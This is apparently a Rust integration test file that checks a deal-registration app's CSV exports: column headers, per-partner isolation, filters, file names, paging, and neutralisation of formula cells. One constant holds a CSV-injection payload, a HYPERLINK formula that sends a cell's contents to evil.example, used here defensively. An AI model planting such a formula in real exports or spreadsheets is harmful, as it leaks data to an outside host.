//! The CSV exports over HTTP, read back with the `csv` crate as a spreadsheet would read
//! them: the header row, a known row with its amounts exact, a partner's own rows only, the
//! list's filters, formula cells neutralised, the dated file name, and a list longer than
//! one page of the writer.

use diesel::Connection;
use reqwest::StatusCode;
use reqwest::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use truce::clock::Clock;
use truce::db::models::user;
use truce::domain::user::validate_user;

use crate::helpers::{
    Deal, Page, TestApp, TestClient, approve, close_won, register_deal, spawn_app,
};

const ADMIN: &str = "admin@vendor.example";
const CM: &str = "cm@vendor.example";
const REP: &str = "rep@vendor.example";
const ANN: &str = "ann@alpha.example";
const BEN: &str = "ben@beta.example";

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;

async fn program() -> TestApp {
    let app = spawn_app().await;
    app.create_user(ADMIN, "admin", None, false);
    app.create_user(CM, "channel", None, false);
    app.create_user(REP, "sales", None, false);
    app.partner("Alpha Partners", ANN);
    app.partner("Beta Resellers", BEN);
    app
}

/// A downloaded CSV file, parsed.
struct Csv {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Csv {
    /// Downloads `path` as `client`, checks it is a dated CSV attachment named `stem`, and
    /// parses it.
    async fn download(app: &TestApp, client: &TestClient, path: &str, stem: &str) -> Csv {
        let page = client.get(path).await;
        assert_eq!(page.status, StatusCode::OK, "{path}: {}", page.body);
        Csv::check_headers(app, &page, stem);
        Csv::parse(&page.body)
    }

    fn check_headers(app: &TestApp, page: &Page, stem: &str) {
        let header = |name| page.headers.get(name).unwrap().to_str().unwrap();
        assert_eq!(header(CONTENT_TYPE), "text/csv; charset=utf-8");
        assert_eq!(
            header(CONTENT_DISPOSITION),
            format!("attachment; filename=\"{stem}-{}.csv\"", app.today())
        );
    }

    fn parse(body: &str) -> Csv {
        let mut reader = csv::Reader::from_reader(body.as_bytes());
        let header = reader
            .headers()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let rows = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        Csv { header, rows }
    }

    fn column(&self, name: &str) -> usize {
        self.header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name} in {:?}", self.header))
    }

    /// A column of every row.
    fn values(&self, name: &str) -> Vec<&str> {
        let i = self.column(name);
        self.rows.iter().map(|r| r[i].as_str()).collect()
    }

    /// The row whose `name` column is `value`, as (column, cell) pairs.
    fn row(&self, name: &str, value: &str) -> Vec<(&str, &str)> {
        let i = self.column(name);
        let row = self
            .rows
            .iter()
            .find(|r| r[i] == value)
            .unwrap_or_else(|| panic!("no row with {name} = {value:?} in {:?}", self.rows));
        self.header
            .iter()
            .map(String::as_str)
            .zip(row.iter().map(String::as_str))
            .collect()
    }
}

/// `expected` cells of `row`, by column.
fn assert_cells(row: &[(&str, &str)], expected: &[(&str, &str)]) {
    for (column, value) in expected {
        let found = row.iter().find(|(c, _)| c == column).map(|(_, v)| *v);
        assert_eq!(found, Some(*value), "{column} of {row:?}");
    }
}

#[actix_web::test]
async fn formula_cells_come_out_neutralised_in_every_export_they_reach() {
    let app = program().await;
    let (ann, cm, admin) = (
        app.login(ANN).await,
        app.login(CM).await,
        app.login(ADMIN).await,
    );
    let names = [HYPERLINK, "+Plus Robotics", "-Minus Labs", "@Home Networks"];
    let mut ids = Vec::new();
    for name in names {
        ids.push(register_deal(&ann, &Deal::new(&app, name, "")).await);
    }
    approve(&cm, &ids[0]).await;
    close_won(&app, &ann, &ids[0], "40,000").await;

    let deals = Csv::download(&app, &ann, "/partner/deals.csv", "deals").await;
    let mut prospects = deals.values("prospect");
    prospects.sort_unstable();
    assert_eq!(
        prospects,
        [
            "'+Plus Robotics",
            "'-Minus Labs",
            r#"'=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
            "'@Home Networks",
        ]
    );
    // Other text a partner typed is neutralised too: the contact's phone number.
    assert!(
        deals
            .values("contact_phone")
            .iter()
            .all(|p| *p == "'+49 30 1234567")
    );
    let queue = Csv::download(&app, &cm, "/review/queue.csv", "review-queue").await;
    assert!(queue.values("prospect").contains(&"'+Plus Robotics"));
    let all = Csv::download(&app, &cm, "/review/registrations.csv", "registrations").await;
    assert!(all.values("prospect").contains(&"'-Minus Labs"));

    // The credits report wrote it as is before: now it is text.
    let credits = Csv::download(&app, &admin, "/admin/credits.csv", "credits").await;
    assert!(!credits.rows.is_empty());
    for prospect in credits.values("prospect") {
        assert_eq!(
            prospect,
            r#"'=HYPERLINK("http://evil.example/?x="&A1,"Click")"#
        );
    }
}

#[actix_web::test]
async fn registrations_come_with_the_lists_filters_and_a_partner_gets_only_its_own() {
    let app = program().await;
    let (ann, ben, cm) = (
        app.login(ANN).await,
        app.login(BEN).await,
        app.login(CM).await,
    );
    let won = register_deal(
        &ann,
        &Deal::new(&app, "Zeta Robotics", "zeta-robotics.example"),
    )
    .await;
    let pending = register_deal(
        &ann,
        &Deal::new(&app, "Alder Foods", "alder-foods.example").with("amount", "1,234.56"),
    )
    .await;
    let theirs = register_deal(&ben, &Deal::new(&app, "Birch Tools", "birch.example")).await;
    approve(&cm, &won).await;
    close_won(&app, &ann, &won, "12,345.67").await;

    let mine = Csv::download(&app, &ann, "/partner/deals.csv", "deals").await;
    assert_eq!(
        mine.header,
        [
            "registration_id",
            "prospect",
            "organisation",
            "status",
            "segment",
            "amount_minor",
            "amount",
            "currency",
            "website",
            "country",
            "industry",
            "contact_name",
            "contact_email",
            "contact_phone",
            "expected_close",
            "submitted_at",
            "decided_at",
            "protection_ends_at",
            "renewal",
            "closed_at",
            "won_amount_minor",
            "won_amount",
            "close_date",
            "outcome_reason",
            "policy_version",
            "decided_policy_version",
        ]
    );
    let mut ids = mine.values("registration_id");
    ids.sort_unstable();
    let mut expected = vec![won.as_str(), pending.as_str()];
    expected.sort_unstable();
    assert_eq!(ids, expected, "Alpha's own registrations, never Beta's");
    assert!(!mine.body_mentions(&theirs) && !mine.body_mentions("Birch Tools"));

    let registered = app.registration(&won);
    let submitted = registered
        .submitted_at
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string();
    assert_cells(
        &mine.row("registration_id", &won),
        &[
            ("prospect", "Zeta Robotics"),
            ("organisation", "Alpha Partners"),
            ("status", "won"),
            ("segment", "mid_market"),
            ("amount_minor", "4000000"),
            ("amount", "40000.00"),
            ("currency", "USD"),
            ("website", "zeta-robotics.example"),
            ("country", "DE"),
            ("contact_email", "jana.berg@zeta-robotics.example"),
            (
                "expected_close",
                &(app.today() + chrono::TimeDelta::days(90)).to_string(),
            ),
            ("submitted_at", &submitted),
            ("won_amount_minor", "1234567"),
            ("won_amount", "12345.67"),
            ("close_date", &app.today().to_string()),
            ("policy_version", "1"),
            ("decided_policy_version", "1"),
        ],
    );
    assert_cells(
        &mine.row("registration_id", &pending),
        &[
            ("status", "pending"),
            ("segment", "smb"),
            ("amount_minor", "123456"),
            ("amount", "1234.56"),
            ("decided_at", ""),
            ("won_amount", ""),
        ],
    );

    // The list's filters: status, and the order of the rows.
    let approved_only =
        Csv::download(&app, &ann, "/partner/deals.csv?status=pending", "deals").await;
    assert_eq!(approved_only.values("registration_id"), [pending.as_str()]);
    let by_name = Csv::download(
        &app,
        &cm,
        "/review/registrations.csv?sort=company",
        "registrations",
    )
    .await;
    assert_eq!(
        by_name.values("prospect"),
        ["Alder Foods", "Birch Tools", "Zeta Robotics"]
    );
    assert_eq!(
        by_name.row("prospect", "Birch Tools")[2],
        ("organisation", "Beta Resellers")
    );
    let won_only = Csv::download(
        &app,
        &cm,
        "/review/registrations.csv?status=won",
        "registrations",
    )
    .await;
    assert_eq!(won_only.values("registration_id"), [won.as_str()]);

    // Each list links to its download with the filters it shows.
    let page = ann.get("/partner?status=pending&sort=company").await;
    assert!(
        page.text().contains(
            r#"<a class="button secondary" href="/partner/deals.csv?status=pending&sort=company">Download CSV</a>"#
        ),
        "{}",
        page.body
    );
    assert!(
        cm.get("/review/registrations")
            .await
            .body
            .contains(r#"href="/review/registrations.csv?sort=newest">Download CSV</a>"#)
    );
}

#[actix_web::test]
async fn the_review_queue_disputes_and_rulings_download_as_the_pages_list_them() {
    let app = program().await;
    let (ann, ben, cm) = (
        app.login(ANN).await,
        app.login(BEN).await,
        app.login(CM).await,
    );
    let deal = Deal::new(&app, "Acme Robotics GmbH", "acme-robotics.example");
    let held = register_deal(&ann, &deal).await;
    let waiting = register_deal(&ann, &Deal::new(&app, "Oak Mills", "oak-mills.example")).await;

    let queue = Csv::download(&app, &cm, "/review/queue.csv", "review-queue").await;
    assert_eq!(
        queue.header,
        [
            "registration_id",
            "prospect",
            "organisation",
            "request",
            "status",
            "segment",
            "amount_minor",
            "amount",
            "currency",
            "submitted_at",
            "review_due_at",
            "sla",
            "sla_escalated_at",
            "evidence",
            "flags",
        ]
    );
    assert_eq!(queue.rows.len(), 2);
    let due = app
        .registration(&waiting)
        .state
        .review_due_at
        .unwrap()
        .format("%Y-%m-%dT%H:%M:%SZ")
        .to_string();
    assert_cells(
        &queue.row("registration_id", &waiting),
        &[
            ("prospect", "Oak Mills"),
            ("organisation", "Alpha Partners"),
            ("request", "registration"),
            ("status", "pending"),
            ("amount_minor", "4000000"),
            ("amount", "40000.00"),
            ("review_due_at", &due),
            ("sla", "on_time"),
            ("evidence", "No conflicts found"),
        ],
    );
    assert!(
        cm.get("/review")
            .await
            .body
            .contains(r#"href="/review/queue.csv">Download CSV</a>"#)
    );

    // A dispute: Beta is declined for Alpha's locked prospect and disputes it.
    approve(&cm, &held).await;
    let declined = register_deal(&ben, &deal).await;
    let raised = ben
        .submit(
            &format!("/partner/deals/{declined}/dispute"),
            &format!("/partner/deals/{declined}/dispute"),
            &[
                ("reason", "existing_relationship"),
                (
                    "details",
                    "We met their CTO on 2 Nov., before Alpha registered.",
                ),
            ],
        )
        .await;
    assert_eq!(raised.status, StatusCode::SEE_OTHER, "{}", raised.text());
    let id = raised
        .location
        .unwrap()
        .trim_start_matches("/partner/disputes/")
        .to_owned();

    let open = Csv::download(&app, &cm, "/review/disputes.csv", "disputes").await;
    assert_eq!(open.values("dispute_id"), [id.as_str()]);
    assert_cells(
        &open.row("dispute_id", &id),
        &[
            ("prospect", "Acme Robotics GmbH"),
            ("status", "open"),
            ("reason", "existing_relationship"),
            ("raised_by_role", "partner"),
            ("raiser_organisation", "Beta Resellers"),
            ("raiser_registration_id", &declined),
            ("other_registration_id", &held),
            ("sla", "on_time"),
            ("outcome", ""),
        ],
    );

    let ruled = cm
        .submit(
            &format!("/review/disputes/{id}"),
            &format!("/review/disputes/{id}/resolve"),
            &[
                ("outcome", "upheld"),
                (
                    "rationale",
                    "Alpha registered first; no earlier record of Beta's.",
                ),
            ],
        )
        .await;
    assert_eq!(ruled.status, StatusCode::SEE_OTHER, "{}", ruled.text());
    let none_open = Csv::download(&app, &cm, "/review/disputes.csv", "disputes").await;
    assert_eq!(none_open.header.len(), 19, "the header row alone");
    assert!(none_open.rows.is_empty());

    let rulings = Csv::download(
        &app,
        &cm,
        "/review/disputes/rulings.csv?q=cto&outcome=upheld",
        "rulings",
    )
    .await;
    assert_cells(
        &rulings.row("dispute_id", &id),
        &[
            ("status", "resolved"),
            ("outcome", "upheld"),
            (
                "rationale",
                "Alpha registered first; no earlier record of Beta's.",
            ),
            ("partner_share_pct", ""),
            ("sla", ""),
        ],
    );
    assert_eq!(rulings.rows.len(), 1);
    let no_match = Csv::download(
        &app,
        &cm,
        "/review/disputes/rulings.csv?q=territory",
        "rulings",
    )
    .await;
    assert!(no_match.rows.is_empty());
    assert!(
        cm.get("/review/disputes/rulings?q=cto&outcome=upheld")
            .await
            .text()
            .contains(
                r#"href="/review/disputes/rulings.csv?q=cto&outcome=upheld">Download CSV</a>"#
            )
    );
}

#[actix_web::test]
async fn admins_download_users_organisations_and_acknowledgements() {
    let app = program().await;
    let (admin, ann) = (app.login(ADMIN).await, app.login(ANN).await);

    let users = Csv::download(&app, &admin, "/admin/users.csv", "users").await;
    assert_eq!(
        users.header,
        [
            "user_id",
            "name",
            "email",
            "role",
            "org_admin",
            "organisation",
            "status",
            "created_at",
            "disabled_at",
        ]
    );
    assert_eq!(users.rows.len(), 5);
    let ann_id = app.find_user(ANN).unwrap().id;
    assert_cells(
        &users.row("email", ANN),
        &[
            ("user_id", &ann_id),
            ("role", "partner"),
            ("org_admin", "false"),
            ("organisation", "Alpha Partners"),
            ("status", "active"),
            ("disabled_at", ""),
        ],
    );
    assert_cells(
        &users.row("email", REP),
        &[("role", "sales"), ("organisation", "")],
    );
    assert!(!users.header.iter().any(|h| h.contains("password")));

    let orgs = Csv::download(&app, &admin, "/admin/orgs.csv", "organisations").await;
    assert_eq!(
        orgs.header,
        ["org_id", "name", "tier", "status", "users", "created_at"]
    );
    assert_eq!(orgs.values("name"), ["Alpha Partners", "Beta Resellers"]);
    assert_cells(
        &orgs.row("name", "Alpha Partners"),
        &[("tier", "gold"), ("status", "active"), ("users", "1")],
    );

    // The rules of engagement: Ann gets one answer wrong, then acknowledges.
    let published = admin
        .submit(
            "/admin/roe",
            "/admin/roe",
            &[
                ("body", "# Rules\n\nFirst valid registration wins."),
                ("summary", "First version."),
                ("confirm", "yes"),
                ("q1_prompt", "Who wins a prospect registered twice?"),
                (
                    "q1_options",
                    "The first valid registration\nThe larger partner",
                ),
                ("q1_correct", "1"),
                ("q1_explanation", "First valid registration wins."),
            ],
        )
        .await;
    assert_eq!(
        published.status,
        StatusCode::SEE_OTHER,
        "{}",
        published.text()
    );
    for answer in ["2", "1"] {
        ann.submit(
            "/roe",
            "/roe",
            &[("version", "1"), ("read", "yes"), ("a1", answer)],
        )
        .await;
    }
    let acks = Csv::download(
        &app,
        &admin,
        "/admin/roe/acknowledgements.csv",
        "roe-acknowledgements",
    )
    .await;
    assert_eq!(
        acks.header,
        [
            "user_id",
            "name",
            "email",
            "role",
            "organisation",
            "roe_version",
            "acknowledged_at",
            "answers_since",
            "correct_answers",
            "answers",
        ]
    );
    assert_eq!(
        acks.values("email"),
        [ANN, BEN, REP],
        "active partner users and sales reps, by email"
    );
    let now = app.clock.naive_now();
    let acknowledged = acks.row("email", ANN);
    assert_cells(
        &acknowledged,
        &[
            ("organisation", "Alpha Partners"),
            ("roe_version", "1"),
            ("correct_answers", "1"),
            ("answers", "2"),
            (
                "answers_since",
                &(now - chrono::TimeDelta::days(truce::domain::roe::ACCURACY_DAYS))
                    .format("%Y-%m-%dT%H:%M:%SZ")
                    .to_string(),
            ),
        ],
    );
    let at = acknowledged
        .iter()
        .find(|(c, _)| *c == "acknowledged_at")
        .unwrap()
        .1;
    assert!(at.starts_with(&app.today().to_string()), "{at}");
    assert_cells(
        &acks.row("email", REP),
        &[
            ("role", "sales"),
            ("acknowledged_at", ""),
            ("correct_answers", "0"),
            ("answers", "0"),
        ],
    );
    let page = admin.get("/admin/roe/acknowledgements").await;
    assert!(
        page.body
            .contains(r#"href="/admin/roe/acknowledgements.csv">Download CSV</a>"#)
    );
}

/// More users than the writer reads at once: every one is written exactly once, in email
/// order, across the pages.
#[actix_web::test]
async fn a_list_longer_than_a_page_is_written_whole_and_in_order() {
    let app = program().await;
    let admin = app.login(ADMIN).await;
    let now = app.clock.naive_now();
    app.conn()
        .transaction::<_, diesel::result::Error, _>(|conn| {
            for n in 0..1_234 {
                let email = format!("invitee{n:04}@vendor.example");
                let fields = validate_user(&email, &email, "sales", "", false).unwrap();
                user::insert(conn, &fields, None, now).map_err(|e| match e {
                    user::SaveUserError::Db(e) => e,
                    user::SaveUserError::EmailTaken => panic!("{email} is new"),
                })?;
            }
            Ok(())
        })
        .unwrap();
    let total = user::count(&mut app.conn()).unwrap();
    assert_eq!(total, 1_234 + 5);

    let users = Csv::download(&app, &admin, "/admin/users.csv", "users").await;
    let emails = users.values("email");
    assert_eq!(emails.len() as i64, total);
    assert!(
        emails.windows(2).all(|w| w[0] < w[1]),
        "in email order, none twice"
    );
    assert_eq!(
        users.row("email", "invitee1233@vendor.example")[6],
        ("status", "invited")
    );
}

impl Csv {
    /// Whether any cell holds `text`.
    fn body_mentions(&self, text: &str) -> bool {
        self.rows.iter().flatten().any(|c| c.contains(text))
    }
}
